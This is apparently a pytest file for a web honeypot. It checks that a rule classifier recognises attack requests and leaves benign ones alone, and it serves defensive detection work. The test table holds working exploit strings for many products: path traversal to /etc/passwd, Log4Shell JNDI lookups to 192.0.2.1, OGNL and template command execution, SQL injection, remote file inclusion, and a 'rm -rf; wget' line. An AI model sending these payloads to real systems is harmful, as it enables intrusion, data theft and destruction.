"""The table of attacks: each rule by requests as attackers send them, and what must not be called an attack."""

import re

import pytest
from web_honeypot.answers import ANSWERS
from web_honeypot.request import Request
from web_honeypot.rules import classify, rules

EXAMPLES: dict[str, list[str]] = {
    "Apache httpd path traversal": [
        "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
        "POST /cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh\n\necho; id",
        "GET /icons/.%2e/%2e%2e/%2e%2e/etc/passwd",
    ],
    "Citrix ADC path traversal": ["GET /vpn/../vpns/cfg/smb.conf", "GET /vpn/%2e%2e/vpns/portal/scripts/newbm.pl"],
    "Citrix ADC memory leak": ["GET /oauth/idp/.well-known/openid-configuration"],
    "Citrix ADC gateway overflow": ["GET /gwtest/formssso?event=start&target=AAAA"],
    "F5 BIG-IP management interface": [
        "GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd"
    ],
    "F5 BIG-IP iControl REST": ['POST /mgmt/tm/util/bash\n\n{"command":"run","utilCmdArgs":"-c id"}'],
    "Fortinet SSL VPN file reading": ["GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"],
    "Fortinet management login bypass": ["PUT /api/v2/cmdb/system/admin/admin\nUser-Agent: Report Runner"],
    "Fortinet FortiWeb path confusion": ["POST /api/v2.0/cmdb/system/admin%3F/../../../../../cgi-bin/fwbcgi"],
    "Fortinet SSL VPN probe": ["GET /remote/login?lang=en"],
    "VMware vCenter upload": ["POST /ui/vropspluginui/rest/services/uploadova"],
    "VMware vCenter vSAN plug-in": ["POST /ui/h5-vsan/rest/proxy/service/com.vmware.vsan.client.services.capability"],
    "VMware vCenter analytics upload": ["POST /analytics/telemetry/ph/api/hyper/send?_c=test"],
    "VMware Workspace ONE template injection": [
        'GET /catalog-portal/ui/oauth/verify?error=&deviceUdid=${"freemarker.template.utility.Execute"?new()("id")}'
    ],
    "GitLab ExifTool upload": ["POST /uploads/user\n\nAT&TFORM\x00\x00\x03\xafDJVM"],
    "GitLab password reset to two addresses": ["POST /users/password\n\nuser[email][]=a@b.c&user[email][]=x@y.z"],
    "Jenkins script console": ['POST /script\n\nscript=println+"id".execute().text', "GET /jenkins/script"],
    "Jenkins sandbox bypass": ["GET /securityRealm/user/admin/descriptorByName/org.x.SecureGroovyScript/checkScript"],
    "Jenkins command line file reading": ["POST /cli?remoting=false"],
    "Oracle WebLogic deserialisation over SOAP": ["POST /wls-wsat/CoordinatorPortType\n\n<string>id</string>"],
    "Oracle WebLogic console bypass": ["GET /console/css/%252e%252e%252fconsole.portal"],
    "Microsoft Exchange ProxyShell": ["GET /autodiscover/autodiscover.json?@foo.com/mapi/nspi/?&Email=autodiscover"],
    "Microsoft Exchange ProxyLogon": [
        "GET /owa/auth/x.js\nCookie: X-AnonResource=true; X-AnonResource-Backend=localhost/ecp"
    ],
    "Microsoft SharePoint ToolPane": ["POST /_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx"],
    "Microsoft IIS WebDAV overflow": ["PROPFIND /\nIf: <http://localhost/" + "a" * 120 + ">"],
    "Microsoft HTTP.sys range overflow": ["GET /\nRange: bytes=0-18446744073709551615"],
    "Atlassian Confluence OGNL in the path": [
        (
            "GET /%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29"
            ".exec%28%22id%22%29.getInputStream%28%29%29%29%7D/"
        )
    ],
    "Atlassian Confluence OGNL in a form": ["POST /pages/createpage-entervariables.action\n\nqueryString=aaa"],
    "Atlassian Confluence setup takeover": ["POST /setup/setupadministrator.action"],
    "Apache Struts OGNL in a header": ["GET /\nContent-Type: %{(#_='multipart/form-data').(#cmd='id')}"],
    "Apache Struts OGNL": ["GET /index.action?redirect:${#a=new+java.lang.ProcessBuilder('id')}", "GET /?id=%25{#x}"],
    "Spring4Shell": ["POST /\n\nclass.module.classLoader.resources.context.parent.pipeline.first.pattern=x"],
    "Spring Cloud Function routing": [
        "POST /functionRouter\nspring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec('id')"
    ],
    "Spring Cloud Gateway actuator": ["POST /actuator/gateway/routes/x"],
    "ThinkPHP method call": [
        "GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id"
    ],
    "PHPUnit eval-stdin": ["POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php\n\n<?php echo 1;"],
    "PHP CGI arguments": [
        "POST /?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input\n\n<?php system('id');",
        "POST /php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1",
    ],
    "Laravel Ignition": ["POST /_ignition/execute-solution"],
    "Drupal form rendering": [
        "POST /user/register?element_parents=account/mail\n\nmail[#post_render][]=exec&mail[#markup]=id"
    ],
    "Joomla configuration disclosure": ["GET /api/index.php/v1/config/application?public=true"],
    "vBulletin widget rendering": [
        "POST /index.php?routestring=ajax/render/widget_php\n\nwidgetConfig[code]=phpinfo();"
    ],
    "WordPress file manager plug-in": ["POST /wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php"],
    "WordPress slider plug-in file reading": [
        "GET /wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php"
    ],
    "WordPress users over REST": ["GET /wp-json/wp/v2/users", "GET /?author=1"],
    "WordPress XML-RPC": ["POST /xmlrpc.php\n\n<methodCall><methodName>wp.getUsersBlogs</methodName></methodCall>"],
    "Apache Solr templates": ["GET /solr/core/select?q=1&wt=velocity&v.template=custom"],
    "Elasticsearch script": ['POST /_search\n\n{"script_fields":{"x":{"script":"java.lang.Runtime"}}}'],
    "Apache ActiveMQ file server": ["PUT /fileserver/x.txt"],
    "Apache Tomcat JSP upload by PUT": ["PUT /x.jsp/\n\n<% %>", "PUT /x.jsp%20"],
    "Apache Tomcat session deserialisation": ["PUT /x/session\n\n\xac\xed"],
    "Apache Shiro cookie": ["GET /\nCookie: rememberMe=" + "A" * 80],
    "Apache OFBiz login bypass": ["POST /webtools/control/ProgramExport;/?USERNAME=&PASSWORD=&requirePasswordChange=Y"],
    "Apache Flink file reading": ["GET /jobmanager/logs/..%252f..%252f..%252fetc%252fpasswd"],
    "Hadoop YARN job": ["POST /ws/v1/cluster/apps/new-application"],
    "Docker engine API": ["GET /v1.41/containers/json", "POST /containers/create"],
    "Kubernetes API": ["GET /api/v1/pods", "GET /apis/apps/v1/deployments"],
    "Grafana plug-in path traversal": ["GET /public/plugins/alertlist/../../../../../etc/passwd"],
    "Next.js middleware bypass": ["GET /admin\nx-middleware-subrequest: middleware:middleware"],
    "React server components": ['POST /\n\n{"then":"$1:__proto__:then","_response":{"_prefix":"process"}}'],
    "Openfire setup bypass": ["GET /setup/setup-s/%u002e%u002e/%u002e%u002e/log.jsp"],
    "GeoServer property expression": ["GET /geoserver/wfs?valueReference=exec(java.lang.Runtime.getRuntime(),'id')"],
    "JetBrains TeamCity login bypass": ["GET /hax?jsp=/app/rest/users;.jsp", "POST /app/rest/users/id:1/tokens/RPC2"],
    "ConnectWise ScreenConnect setup": ["GET /SetupWizard.aspx/x"],
    "Progress MOVEit": ["POST /guestaccess.aspx", "POST /moveitisapi/moveitisapi.dll?action=m2"],
    "Progress Telerik upload": ["POST /Telerik.Web.UI.WebResource.axd?type=rau"],
    "Adobe ColdFusion file reading": ["GET /CFIDE/administrator/enter.cfm?locale=../../../../../../win.ini%00en"],
    "Zimbra archive import": ["POST /service/extension/backup/mboximport?account-name=admin"],
    "Ivanti Connect Secure": ["GET /api/v1/totp/user-backup-code/../../system/system-information"],
    "Pulse Secure file reading": ["GET /dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd"],
    "Palo Alto GlobalProtect": ["POST /ssl-vpn/hipreport.esp\nCookie: SESSID=/../../../var/appweb/x"],
    "Palo Alto management bypass": ["POST /php/utils/createRemoteAppwebSession.php/x.js.map\nX-PAN-AUTHCHECK: off"],
    "Check Point gateway file reading": ["POST /clients/MyCRL\n\naCSHELL/../../../../../../../etc/passwd"],
    "Cisco ASA file reading": ["GET /+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua"],
    "Cisco IOS XE web interface": ["POST /webui/logoutconfirm.html?logon_hash=1", "POST /%2577ebui_wsma_Http"],
    "SonicWall SMA": ["GET /cgi-bin/supportInstaller", "POST /__api__/v1/logon"],
    "SAP NetWeaver": ["POST /developmentserver/metadatauploader?CONTENTTYPE=MODEL"],
    "JBoss invoker": ["POST /invoker/JMXInvokerServlet"],
    "Manage Engine": ["POST /./RestAPI/LogonCustomization", "POST /SamlResponseServlet"],
    "WSO2 upload": ["POST /fileupload/toolsAny"],
    "phpMyAdmin setup": ["GET /phpMyAdmin/scripts/setup.php", "GET /index.php?target=db_sql.php%253f/../../etc/passwd"],
    "Roundcube or webmail command": ["POST /installer/index.php\n\n_im_convert_path=id|"],
    "D-Link HNAP command": ['POST /HNAP1/\nSOAPAction: "http://purenetworks.com/HNAP1/GetDeviceSettings/`cd /tmp`"'],
    "D-Link storage backdoor": ["GET /cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ="],
    "Zyxel firewall": ["POST /ztp/cgi-bin/handler"],
    "Hikvision camera": ["PUT /SDK/webLanguage\n\n<language>$(id>webLib/x)</language>"],
    "TP-Link locale": ["GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)"],
    "Dasan GPON router": ["POST /GponForm/diag_Form?images/\n\nXWebPageName=diag&dest_host=`id`"],
    "Netgear setup.cgi": ["GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*&curpath=/"],
    "MVPower recorder shell": ["GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/x"],
    "Realtek or Linksys router command": ["POST /picsdesc.xml", "POST /tmUnblock.cgi"],
    "Huawei router": ["POST /ctrlt/DeviceUpgrade_1"],
    "AVTECH camera": ["GET /cgi-bin/supervisor/Factory.cgi?action=white_led&brightness=$(id)"],
    "QNAP storage": ["POST /photo/p/api/album.php", "GET /cgi-bin/authLogin.cgi"],
    "Synology storage": ["GET /webapi/query.cgi?api=SYNO.API.Info", "GET /webman/info.cgi"],
    "Boa or GoAhead form": ["POST /boaform/admin/formLogin"],
    "Router web interface": ["GET /HNAP1", "GET /cgi-bin/luci", "GET /evox/about"],
    "Log4Shell": [
        "GET /\nUser-Agent: ${jndi:ldap://192.0.2.1/a}",
        "GET /?q=%24%7Bjndi%3Armi%3A%2F%2F192.0.2.1%2Fa%7D",
        "GET /\nX-Api-Version: ${${lower:j}ndi:${lower:l}dap://192.0.2.1/a}",
        "GET /\nReferer: ${${::-j}${::-n}${::-d}${::-i}:ldap://192.0.2.1/a}",
        "GET /\nX-Forwarded-For: ${${env:X:-j}ndi:dns://192.0.2.1/a}",
        'POST /login\nContent-Type: application/json\n\n{"username":"${jndi:ldap://192.0.2.1/a}","password":"x"}',
    ],
    "Shellshock": [
        "GET /cgi-bin/status\nUser-Agent: () { :; }; echo; /bin/id",
        "GET /\nCookie: () { ignored;};/bin/id",
    ],
    "Serialised Java object": ["POST /\n\n\xac\xed\x00\x05sr", "GET /?vs=rO0ABXNyABdqYXZh"],
    "JSON type deserialisation": ['POST /\n\n{"x":{"@type":"com.sun.rowset.JdbcRowSetImpl"}}'],
    "PHP wrapper inclusion": [
        "GET /?page=php://filter/convert.base64-encode/resource=config.php",
        "POST /?file=php://input\n\n<?php echo 1;",
        "GET /?f=data:text/plain;base64,PD9waHA=",
        "GET /?f=expect://id",
    ],
    "Remote file inclusion": [
        "GET /index.php?page=http://192.0.2.7/c99.txt?",
        "GET /?mosConfig_absolute_path=http://192.0.2.7/x",
    ],
    "Path traversal": [
        "GET /?f=../../../etc/passwd",
        "GET /static/..%2f..%2f..%2fetc%2fpasswd",
        "GET /?f=..\\..\\windows\\win.ini",
        "GET /..%c0%af..%c0%afetc/passwd",
        "GET /%2e%2e/%2e%2e/%2e%2e/",
        "GET /?f=....//....//etc/passwd",
        "GET /?f=%252e%252e%252fetc%252fpasswd",
    ],
    "Local file inclusion": ["GET /?f=/etc/passwd", "GET /?f=file:///etc/hosts", "GET /?f=c:\\windows\\win.ini"],
    "XML external entity": [
        'POST /api\nContent-Type: application/xml\n\n<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    ],
    "Command injection": [
        "GET /ping.php?ip=127.0.0.1;id",
        "GET /?x=|whoami",
        "GET /?x=`id`",
        "GET /?x=$(uname%20-a)",
        "GET /?x=%26%26+cat+/etc/passwd",
        "POST /\n\nhost=1%0aid",
    ],
    "Web shell command": ["GET /up.php?cmd=whoami", "GET /x.jsp?pwd=j&cmd=id"],
    "PHP code injection": [
        "POST /\n\n<?php system('id');?>",
        "GET /?x=eval($_POST[1]);",
        "GET /\nUser-Agent: <?php phpinfo();?>",
    ],
    "Template injection": ["GET /?name={{7*7}}", "GET /?name=${7*7}", "GET /?n={{config.items()}}", "GET /?n=<%=7*7%>"],
    "SQL injection: UNION SELECT": ["GET /?id=1+union+all+select+1,2", "GET /?id=1/**/UNION/**/SELECT/**/1"],
    "SQL injection: waiting": [
        "GET /?id=1+and+sleep(5)",
        "GET /?id=1';WAITFOR+DELAY+'0:0:5'--",
        "GET /\nX-Forwarded-For: 1'+sleep(5)",
    ],
    "SQL injection": [
        "GET /?u=admin'+or+'1'='1",
        "POST /login\n\nuser=admin'--+-&password=x",
        "GET /?id=1+and+1=1",
        "GET /?id=1'+order+by+3--",
        "GET /?id=extractvalue(1,concat(0x7e,version()))",
        "GET /?id=1;drop+table+x';drop+table+users",
    ],
    "SQL injection: quote": ["GET /?id=1'", "GET /?cat=%27"],
    "NoSQL injection": ["POST /login\n\nuser[$ne]=x&password[$ne]=x"],
    "LDAP injection": ["GET /?u=*)(uid=*))(|(uid=*"],
    "Server-side request forgery": [
        "GET /?url=http://169.254.169.254/latest/meta-data/",
        "GET /?u=gopher://127.0.0.1:6379/_x",
        "GET /?u=http://localhost:8080/",
    ],
    "Cross-site scripting": ["GET /?q=<script>alert(1)</script>", "GET /?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"],
    "Header injection": ["GET /?x=%0d%0aSet-Cookie:a=b"],
    "Open proxy": ["CONNECT example.org:443"],
    "Web shell path": ["GET /uploads/c99.php", "GET /shell.jsp", "GET /tomcatwar.jsp"],
    "File written by PUT": ["PUT /x.txt\n\nhello", "MKCOL /x"],
    "WebDAV": ["PROPFIND /"],
    "GraphQL introspection": ['POST /graphql\n\n{"query":"query IntrospectionQuery { __schema { types { name } } }"}'],
    "Version control data": ["GET /.git/config", "GET /.svn/entries", "GET /app/.git/HEAD"],
    "Environment file": ["GET /.env", "GET /api/.env.production", "GET /.aws/credentials"],
    "Password or key file": ["GET /.htpasswd", "GET /.ssh/id_rsa", "GET /.DS_Store"],
    "Backup or dump": ["GET /backup.zip", "GET /index.php.bak", "GET /db.sql", "GET /index.php~", "GET /backup"],
    "Database administration": ["GET /phpmyadmin/", "GET /pma/index.php", "GET /adminer.php"],
    "WordPress": ["GET /wp-login.php", "GET /blog/wp-includes/x.js", "POST /xmlrpc.php"],
    "Tomcat manager": ["GET /manager/html", "GET /host-manager/html"],
    "Other application": [
        "GET /owa/auth/logon.aspx",
        "GET /jenkins/login",
        "GET /server-status",
        "GET /actuator/health",
    ],
    "CGI script": ["GET /cgi-bin/test.cgi"],
    "Proxy test": ["GET http://example.org/"],
    "Scanner: Nikto": ["GET /\nUser-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"],
    "Scanner: sqlmap": ["GET /\nUser-Agent: sqlmap/1.8#stable (https://sqlmap.org)"],
    "Scanner: Nmap": [
        "GET /\nUser-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "GET /nice%20ports%2C/Tri%6Eity.txt%2ebak",
    ],
    "Scanner: Nessus": ["GET /\nUser-Agent: Nessus"],
    "Scanner: OpenVAS": ["GET /\nUser-Agent: Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4)"],
    "Scanner: Nuclei": ["GET /\nUser-Agent: Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"],
    "Scanner: Burp": ["GET /?x=abc.burpcollaborator.net"],
    "Scanner: Acunetix": ["GET /acunetix-wvs-test-for-some-inexistent-file"],
    "Scanner: directory search": ["GET /x\nUser-Agent: gobuster/3.6", "GET /x\nUser-Agent: Fuzz Faster U Fool v2.1"],
    "Scanner: WPScan": ["GET /\nUser-Agent: WPScan v3.8 (https://wpscan.com)"],
    "Scanner: other": ["GET /\nUser-Agent: masscan/1.3", "GET /\nUser-Agent: Mozilla/5.0 zgrab/0.x"],
    "Bot: Mirai and its kin": ["GET /\nUser-Agent: Hello, World", "GET /\nUser-Agent: Mozi"],
}

BENIGN = [
    "GET /",
    "GET /favicon.ico",
    "GET /robots.txt",
    "GET /index.php?id=17&lang=de",
    "GET /search?q=select+the+best+union+of+workers",
    "GET /search?q=cats+and+dogs+or+birds",
    "GET /?q=O'Brien",
    "GET /?next=/hr/&from=2026-11-22T10:00:00",
    "GET /?url=http://intranet.local/a",
    "GET /a/../b/style.css",
    "GET /assets/style.css?v=1.2.3",
    "POST /index.php\n\nusername=anna.meier&password=Sommer-2026!",
    "POST /index.php\n\nusername=admin&password=x;y$z(1)",
    'POST /api/login\nContent-Type: application/json\n\n{"user":"anna","password":"p@ss (word)"}',
    "GET /\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/130.0 Safari/537.36",
    "GET /\nUser-Agent: curl/7.88.1\nAccept: */*",
    "GET /\nCookie: PHPSESSID=abcdef; theme=dark\nReferer: https://files01.intranet.local/index.php",
    "HEAD /",
    "OPTIONS /",
    "POST /contact\n\nmessage=Please+call+me;+it+is+urgent.+Set+a+date+(or+two)",
]


def parsed(text: str) -> Request:
    head, _, body = text.partition("\n\n")
    line, *lines = head.split("\n")
    method, _, target = line.partition(" ")
    headers = tuple((name, value) for name, _, value in (each.partition(": ") for each in lines))
    return Request(method, target.replace(" ", "%20"), headers, body.encode("latin-1"))


def names(text: str) -> set[str]:
    return {match.rule.name for match in classify(parsed(text))}


@pytest.mark.parametrize("name", [rule.name for rule in rules()])
def test_rule_knows_its_attack(name: str) -> None:
    assert [text for text in EXAMPLES[name] if name not in names(text)] == []


def test_each_example_belongs_to_a_rule_and_names_are_unique() -> None:
    known = [rule.name for rule in rules()]
    assert len(known) == len(set(known))
    assert set(EXAMPLES) == set(known)


@pytest.mark.parametrize("text", BENIGN)
def test_what_is_no_attack_has_no_name(text: str) -> None:
    assert names(text) == set()


def test_each_answer_is_one_there_is() -> None:
    named = {rule.answer for rule in rules()} - {""}
    assert named - set(ANSWERS) == set()
    assert set(ANSWERS) - named == set()


def test_numbers_of_holes_are_well_formed() -> None:
    assert all(re.fullmatch(r"CVE-\d{4}-\d{4,7}", cve) for rule in rules() for cve in rule.cve)


def test_graver_rules_come_first() -> None:
    matches = classify(parsed("GET /.git/config?x=${jndi:ldap://192.0.2.1/a}\nUser-Agent: sqlmap/1.8"))
    severities = [match.rule.severity for match in matches]
    assert severities == sorted(severities, reverse=True)
    assert {"Log4Shell", "Version control data", "Scanner: sqlmap"} <= {match.rule.name for match in matches}
